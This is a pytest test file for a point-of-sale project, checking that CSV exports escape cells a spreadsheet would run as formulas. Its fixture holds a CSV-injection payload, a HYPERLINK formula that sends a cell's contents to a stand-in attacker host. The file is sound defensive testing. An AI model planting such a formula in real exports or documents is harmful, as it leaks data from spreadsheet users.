"""Every CSV file the project writes: no cell a spreadsheet would run as a formula (OWASP's CSV injection).

Issue 24, 8: an item named ``=HYPERLINK(...)`` reached ``pos report items --csv`` (and exports, payroll)
as a live formula.  A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return now gets
a ``'`` in front, unless it is entirely a number (``-5.00`` in an amount column stays a number).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from freezegun import freeze_time
from hypothesis import given
from hypothesis import strategies as st

from pos.base.csv_cells import FORMULA_STARTS, csv_cell, rows_text
from pos.store.store import Store
from pos.base.text import shown

NOON = "2026-11-23 17:00:00"  # noon in New York, far from the 04:00 rollover
LINK = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture(autouse=True)
def _cheap_pins(monkeypatch: pytest.MonkeyPatch) -> None:
    from pos.people import pins

    monkeypatch.setattr(pins, "_SCRYPT_N", 2**4)


@pytest.fixture
def booby_trapped(store: Store) -> Store:
    """An item named like a formula, sold; a tip for Alice paid out through payroll; a $1.00 refund."""
    from payments import service
    from payments.refunds import refund
    from pos.store.catalog import add_item
    from pos.cash.drawer import open_drawer
    from pos.sales.orders import add_line, new_order
    from pos.people.staff import add_staff, start_shift
    from pos.tips.tips import PayoutSource, payout

    with freeze_time(NOON):
        add_item(store, "LINK", LINK, "5.00")
        add_staff(store, "Alice", "cashier", "2580")
        start_shift(store, "Alice")
        open_drawer(store, 1, "100")
        order = new_order(store, "counter")
        add_line(store, order.id, "LINK")
        service.pay(store, order.id, "cash", "20", tip_minor=100, tip_to="Alice")
        payout(store, "Alice", None, PayoutSource.PAYROLL, 1)
        refund(store, order.id, "1.00", "-2+3 cold")
    return store


def test_a_formula_from_an_item_or_a_name_never_reaches_a_csv_file_live(booby_trapped: Store, cli_for,
                                                                          tmp_path: Path) -> None:
    cli = cli_for(booby_trapped)
    with freeze_time("2026-11-30 12:00:00"):
        items = _cells(cli.ok("report", "items", "--from", "2026-11-23", "--csv").stdout)
        payroll = _cells(cli.ok("tips", "payroll", "--from", "2026-11-23").stdout)
        records = _cells(cli.ok("tips", "records", "--from", "2026-11-23", "--to", "2026-11-29", "--csv").stdout)
        books = _cells(cli.ok("ledger", "export", "--format", "csv").stdout)
        cli.ok("tips", "payroll", "--from", "2026-11-23", "--out", str(tmp_path / "payroll.csv"))
    assert ["LINK", "'" + LINK] == items[1][:2]
    assert payroll[1][1:3] == ["Alice", "1.00"] and _cells((tmp_path / "payroll.csv").read_text()) == payroll
    assert records[1][1] == "Alice"  # staff names begin with a letter; the writers are the same all the same
    memos = [row[3] for row in books[1:]]
    assert "Refund: -2+3 cold" in memos  # a memo beginning with our words is plain text
    for table in (items, payroll, records, books):
        for row in table:
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell), cell
    # Amounts stay numbers: the sale's receivable and the refund's cash going out.
    amounts = {(row[7], row[8]) for row in books[1:]}
    assert ("assets:cash:drawer:1", "-1.00") in amounts and all(row[10].lstrip("-").isdigit() for row in books[1:])


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+2", "'=1+2"), ("+1 555 0100", "'+1 555 0100"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\\t=1"), ("\r=1", "'\\r=1"), ("-", "'-"), ("-5.00 cash", "'-5.00 cash"), ("\uff1d1+2", "'\uff1d1+2"),
    ("-5.00", "-5.00"), ("+3", "+3"), ("-1250", "-1250"), ("18.40", "18.40"), ("Soda 20oz", "Soda 20oz"),
    (-500, -500), (0, 0), (None, ""),
])
def test_cells(cell: object, written: object) -> None:
    assert csv_cell(cell) == written


@given(st.text())
def test_no_text_is_read_back_as_a_formula_and_nothing_is_lost(text: str) -> None:
    (row,) = _cells(rows_text([[text, "x"]]))
    cell = row[0]
    number = re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell) is not None
    assert not cell.startswith(FORMULA_STARTS) or number
    # Only a quote in front, and only where needed: the text as shown comes back whole.
    assert cell in (shown(text), "'" + shown(text))
    assert cell == shown(text) or text.startswith(FORMULA_STARTS) or shown(text).startswith(FORMULA_STARTS)
    assert row[1] == "x"


@given(st.integers(min_value=-10**15, max_value=10**15), st.integers(min_value=0, max_value=3))
def test_an_amount_stays_a_number(minor: int, exponent: int) -> None:
    from pos.base.money import Money, format_plain

    currency = {0: "JPY", 2: "USD", 3: "BHD"}.get(exponent, "USD")
    amount = format_plain(Money(minor, currency))
    assert _cells(rows_text([[amount, minor]])) == [[amount, str(minor)]]


def test_every_csv_writer_goes_through_the_one_function() -> None:
    """No module but pos/base/csv_cells.py makes a csv.writer or DictWriter of its own."""
    root = Path(__file__).resolve().parent.parent
    found = []
    for folder in ("pos", "payments", "commands", "receipts", "screens", "web", "sync", "devices"):
        for path in (root / folder).rglob("*.py") if (root / folder).is_dir() else []:
            text = path.read_text()
            if re.search(r"csv\.(writer|DictWriter)\b", text) and path.name != "csv_cells.py":
                found.append(str(path.relative_to(root)))
    for path in root.glob("*.py"):
        if re.search(r"csv\.(writer|DictWriter)\b", path.read_text()):
            found.append(path.name)
    assert found == []
